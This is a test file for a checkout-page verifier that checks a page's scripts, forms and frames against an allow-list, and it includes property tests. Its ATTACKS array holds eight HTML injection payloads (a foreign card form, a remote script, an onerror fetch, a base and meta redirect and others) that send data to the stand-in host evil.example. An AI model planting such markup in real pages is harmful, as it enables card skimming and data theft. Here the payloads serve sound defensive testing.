import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { verifyDocument } from '../../src/verify/index.js';
import { htmlInput, testPolicy } from './policy.js';

const LEGIT = readFileSync(new URL('./fixtures/legit-checkout.html', import.meta.url), 'utf8');

/**
 * The verifier tests' policy plus what the inventory drafts for the links and data the page
 * carries (issue 17 class 4): the schema.org context, the help centre, the social profile and the
 * host a template links to. Without them each is `unlisted-url`.
 */
const BASE = testPolicy();
const POLICY = testPolicy({
  allow: {
    ...BASE.allow,
    navigate: [
      ...BASE.allow.navigate,
      ...['https://schema.org', 'https://help.example', 'https://twitter.example', 'https://elsewhere.example'].map((origin) => ({ type: 'origin' as const, origin, why: 'linked or named by the page' })),
    ],
  },
});

describe('legitimate pages', () => {
  it('legitimate checkout page has no violations', () => {
    const v = verifyDocument(htmlInput(LEGIT, { policy: POLICY }));
    expect(v.violations).toEqual([]);
    // The inventory: the gateway script, the first-party script, both forms, the card iframe.
    const PASSIVE = ['image', 'stylesheet', 'font', 'media', 'manifest', 'preconnect', 'css-url', 'preload'];
    expect(v.findings.filter((f) => PASSIVE.includes(f.kind)).map((f) => `${f.kind} ${f.url} ${f.entry?.why}`)).toEqual([
      'preconnect https://fonts.example/ web font stylesheet',
      'stylesheet https://fonts.example/css?family=Noto+Sans+JP web font stylesheet',
      'stylesheet https://shop.example/static/checkout.css the site origin',
      'image https://shop.example/favicon.ico the site origin',
      'image https://img.cdn.example/hero.webp product images',
      'image https://img.cdn.example/logo.png product images',
      'image https://img.cdn.example/p/1.jpg product images',
      'image https://img.cdn.example/p/1@2x.jpg product images',
      'image https://img.cdn.example/p/2.jpg product images',
      'image https://stats.example/pixel.gif no-JS visit counter',
      'media https://media.example/howto.mp4 how-to video',
      'image https://img.cdn.example/howto.jpg product images',
    ]);
    // URLs carried as data or links (issue 17 class 4): each named by a list.
    const carried = v.findings.filter((f) => f.kind === 'carried-url');
    expect(carried.map((f) => new URL(f.url!).origin).sort()).toEqual(
      ['https://elsewhere.example', 'https://help.example', 'https://help.example', 'https://img.cdn.example', 'https://img.cdn.example', 'https://schema.org', 'https://twitter.example'].sort(),
    );
    expect(v.findings.filter((f) => !PASSIVE.includes(f.kind) && f.kind !== 'carried-url').map((f) => `${f.kind} ${f.url}`)).toEqual([
      'script https://js.gateway.example/v3/tokenise.js',
      'script https://shop.example/static/checkout.js',
      'form-action https://shop.example/checkout/address',
      'form-action https://pay.gateway.example/charge',
      'frame https://frames.gateway.example/cvc',
    ]);
  });
});

/** Positions just before a start tag in the body where inserted markup is parsed as markup. */
function insertionPoints(html: string): number[] {
  const body = html.indexOf('<body>');
  const points: number[] = [];
  for (const match of html.matchAll(/<(div|p|label|input|select|option|tr|td|section|form|button|iframe|a|img|footer|nav|table|tbody|svg|text)[\s>]/g)) {
    if (match.index! > body) points.push(match.index!);
  }
  return points;
}

const ATTACKS = [
  '<form action="https://evil.example/steal"><input name=cc></form>',
  '<button formaction="https://evil.example/steal">Pay</button>',
  '<script src="https://evil.example/steal.js"></script>',
  '<iframe src="https://evil.example/steal"></iframe>',
  '<img src=x onerror="fetch(\'https://evil.example/steal\')">',
  '<base href="https://evil.example/steal/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/steal">',
  '<div><template shadowrootmode=open><form action="https://evil.example/steal"></form></template></div>',
];

/**
 * Inside an open form a second <form> start tag is ignored by the parser (HTML §13.2.6.4.7, the form
 * element pointer; F-08), in Chromium as in parse5: there the inserted form does not exist.
 */
function insideForm(html: string, point: number): boolean {
  return html.lastIndexOf('<form', point) > html.lastIndexOf('</form>', point);
}

/** Inside <svg>, script/iframe/base are SVG-namespace elements that load nothing (only breakout tags like img, div, meta leave). */
function insideSvg(html: string, point: number): boolean {
  return html.lastIndexOf('<svg', point) > html.lastIndexOf('</svg>', point);
}

describe('property', () => {
  const points = insertionPoints(LEGIT);

  it('never reports clean when a foreign target or inline code is inserted where Chromium honours it', () => {
    fc.assert(
      fc.property(fc.constantFrom(...points), fc.constantFrom(...ATTACKS), (point, attack) => {
        fc.pre(!(attack.startsWith('<form') && insideForm(LEGIT, point)));
        fc.pre(!(/^<(script|iframe|base)/.test(attack) && insideSvg(LEGIT, point)));
        const page = LEGIT.slice(0, point) + attack + LEGIT.slice(point);
        const v = verifyDocument(htmlInput(page, { policy: POLICY }));
        return v.violations.length > 0;
      }),
      { numRuns: 150 },
    );
  });

  it('a foreign form inserted anywhere outside another form is always reported with its URL', () => {
    fc.assert(
      fc.property(fc.constantFrom(...points.filter((p) => !insideForm(LEGIT, p))), (point) => {
        const page = LEGIT.slice(0, point) + ATTACKS[0] + LEGIT.slice(point);
        return verifyDocument(htmlInput(page, { policy: POLICY })).violations.some((f) => f.url === 'https://evil.example/steal');
      }),
      { numRuns: 100 },
    );
  });
});
